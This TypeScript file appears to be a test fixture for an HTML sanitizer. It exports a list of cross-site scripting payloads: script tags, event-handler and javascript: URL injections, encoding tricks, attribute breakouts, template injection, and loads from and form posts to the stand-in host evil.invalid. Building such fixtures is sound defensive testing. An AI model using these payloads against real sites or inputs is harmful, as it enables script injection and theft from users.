/** Texts that would act if anything ever read them as markup or as an address. */
const ACTS = "window.pwned=1";

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${ACTS}</script>`, `<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>`, `<scr<script>ipt>${ACTS}</scr</script>ipt>`, `</script><script>${ACTS}</script>`, `<script/x>${ACTS}</script>`,
  `<img src=x onerror=${ACTS}>`, `<img src="x" onerror="${ACTS}">`, `<img/src=x/onerror=${ACTS}>`, `<IMG """><SCRIPT>${ACTS}</SCRIPT>">`, `<image href=x onerror=${ACTS}>`,
  `<svg onload=${ACTS}>`, `<svg><script>${ACTS}</script></svg>`, `<svg><animate onbegin=${ACTS} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${ACTS}"><text>x</text></a></svg>`, `<math><mi//xlink:href="data:x,<script>${ACTS}</script>">`,
  `<iframe src="javascript:${ACTS}">`, `<iframe srcdoc="<script>parent.${ACTS}</script>">`, `<object data="javascript:${ACTS}">`, `<embed src="javascript:${ACTS}">`, `<base href="//evil.invalid/">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`, `<meta http-equiv=refresh content="0;url=javascript:${ACTS}">`, `<style>@import "//evil.invalid"</style>`, `<style>*{background:url(//evil.invalid)}</style>`, `<form action=//evil.invalid><input name=x></form>`,
  `<a href="javascript:${ACTS}">x</a>`, `<a href="JaVaScRiPt:${ACTS}">x</a>`, `<a href=" javascript:${ACTS}">x</a>`, `<a href="java\tscript:${ACTS}">x</a>`, `<a href="java&#115;cript:${ACTS}">x</a>`,
  `<a href="data:text/html,<script>${ACTS}</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.invalid">x</a>`, `<a href="/\\evil.invalid">x</a>`, `<a href="\\\\evil.invalid">x</a>`,
  `<a href="/a" onclick="${ACTS}">x</a>`, `<a href="/a" style="position:fixed;inset:0">x</a>`, `<a href="/a" target="_self" id="f">x</a>`, `<a href='/a' onmouseover='${ACTS}'>x</a>`, `<a href="/a"onfocus=${ACTS} autofocus>x</a>`,
  `<b onclick=${ACTS}>x</b>`, `<b style="background:url(//evil.invalid)">x</b>`, `<br onload=${ACTS}>`, `<strong/onclick=${ACTS}>x</strong>`, `<em autofocus tabindex=1 onfocus=${ACTS}>x</em>`,
  `"><script>${ACTS}</script>`, `' onmouseover='${ACTS}`, `" autofocus onfocus="${ACTS}`, "`-alert(1)-`", `javascript:${ACTS}`,
  `<details open ontoggle=${ACTS}>`, `<video><source onerror=${ACTS}>`, `<marquee onstart=${ACTS}>x</marquee>`, `<template><script>${ACTS}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${ACTS}>">`,
  `<!--<img src="--><img src=x onerror=${ACTS}>">`, `<![CDATA[<script>${ACTS}</script>]]>`, `&lt;script&gt;${ACTS}&lt;/script&gt;`, `&#60;script&#62;${ACTS}`, `\\u003cscript\\u003e${ACTS}`,
  `<b><i><b></i></b><a href="/a"><a href="/b">x</a></a>`, `</div></form></main></body></html><script>${ACTS}</script>`, `{{constructor.constructor('${ACTS}')()}}`, `\${${ACTS}}`, `%3Cscript%3E${ACTS}%3C/script%3E`,
  `<ScRiPt\n>${ACTS}</sCrIpT\n>`, `<x onclick=${ACTS} contenteditable>x`, `<title></title><img src=x onerror=${ACTS}>`, `<textarea></textarea><img src=x onerror=${ACTS}>`, `</option></select><img src=x onerror=${ACTS}>`,
];
